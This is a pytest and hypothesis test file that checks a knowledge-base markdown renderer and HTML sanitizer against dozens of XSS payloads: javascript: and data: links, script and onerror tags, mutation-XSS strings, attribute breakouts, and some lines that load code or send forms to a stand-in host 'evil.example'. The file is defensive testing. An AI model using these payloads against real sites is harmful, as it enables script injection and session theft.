"""Nothing that anyone types comes out of the renderer as a tag or an address it must not be."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.content.markdown import render
from kb.content.sanitizer import ATTRIBUTES, CLASSES, LINK_REL, TAGS, URL_SCHEMES, sanitize

JAVASCRIPT_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](&nbsp;javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x0003A;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](view-source:javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,hello>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=10>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>over all</div>",
    "<a href='https://example.com' onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</div></main></body><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "# <script>alert(1)</script>",
    "- <script>\n  alert(1)\n  </script>",
]

BREAKOUTS = [
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onmouseover="alert(1)\nx\n```',
    "```x'onmouseover='alert(1)\nx\n```",
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "~~~ </figcaption><script>alert(1)</script>\nx\n~~~",
    "```python\n</code></pre></div></figure><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror='alert(1)'>\n",
    "```php\n<?php echo '<script>alert(1)</script>' ?>\n```",
    '[x](https://example.com "\\"><script>alert(1)</script>")',
    '[x](https://example.com "&quot; onmouseover=&quot;alert(1)")',
    "[x](https://example.com '\" onmouseover=\"alert(1)')",
    '[x](https://example.com/"onmouseover="alert(1))',
    '[x](<https://example.com/" onmouseover="alert(1)>)',
    '![x" onerror="alert(1)](https://example.com/x.png)',
    '![x](https://example.com/x.png "t\\" onerror=\\"alert(1)")',
    '<https://example.com/"onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[a](https://example.com)[b](https://example.com "</a><script>alert(1)</script>")',
    '| a |\n|:-" onclick="alert(1)|\n| b |',
    '1" onclick="alert(1). x',
    "[x](//evil.example/x)",
    "[x](https:javascript:alert(1))",
    "[x](\\\\evil.example)",
]


class Audit(HTMLParser):
    """Reads HTML as a browser would and notes what is not allowed, and what stands open."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.open: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"tag {tag}")
        if tag not in ("br", "hr"):
            self.open.append(tag)
        for name, value in attrs:
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        if name == "class":
            if not set(value.split()) <= CLASSES.get(tag, set()):
                self.faults.append(f"class {value} of {tag}")
        elif name == "rel":
            if (tag, value) != ("a", LINK_REL):
                self.faults.append(f"rel {value} of {tag}")
        elif name not in ATTRIBUTES.get(tag, set()):
            self.faults.append(f"attribute {name} of {tag}")
        if name == "href":
            self.links.append(value)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"unbalanced {tag}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("unknown declaration")


def audit(html: str) -> Audit:
    result = Audit()
    result.feed(html)
    result.close()
    assert result.faults == []
    assert result.open == []
    for link in result.links:
        scheme, colon, _ = re.split("[/?#]", link, maxsplit=1)[0].partition(":")
        assert not colon or scheme.lower() in URL_SCHEMES, link
    return result


@pytest.mark.parametrize("text", JAVASCRIPT_LINKS)
def test_dangerous_addresses_do_not_become_links(text: str) -> None:
    assert audit(render(text)).links == []


@pytest.mark.parametrize("text", RAW_HTML)
def test_raw_html_is_shown_as_text(text: str) -> None:
    html = render(text)
    audit(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


def test_raw_html_loses_none_of_its_text() -> None:
    assert (
        render("<b>bold</b> & <i>x</i>")
        == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;x&lt;/i&gt;</p>\n"
    )


@pytest.mark.parametrize("text", BREAKOUTS)
def test_attributes_and_code_cannot_be_broken_out_of(text: str) -> None:
    audit(render(text))


@pytest.mark.parametrize("html", RAW_HTML)
def test_the_sanitizer_holds_alone(html: str) -> None:
    """The second lock is tested with the first one open."""
    audit(sanitize(html))


def test_the_sanitizer_keeps_only_known_classes() -> None:
    html = '<div class="highlight htmx-indicator"><span class="k modal">x</span></div>'
    assert sanitize(html) == '<div class="highlight"><span class="k">x</span></div>'


def test_every_link_is_marked_as_written_by_users() -> None:
    for text in ("[x](/a)", "<https://example.com>", "![x](https://example.com/x.png)"):
        assert f'rel="{LINK_REL}"' in render(text)


VECTORS = st.sampled_from([*JAVASCRIPT_LINKS, *RAW_HTML, *BREAKOUTS])
NOISE = st.text(alphabet="`~*_[]()<>|-:\\\"'&;#! \n\tax1", max_size=40)


@given(st.lists(VECTORS | NOISE, max_size=6).map("".join))
def test_no_mixture_gets_through(text: str) -> None:
    audit(render(text))


@given(st.text(max_size=200))
def test_any_text_renders(text: str) -> None:
    audit(render(text))
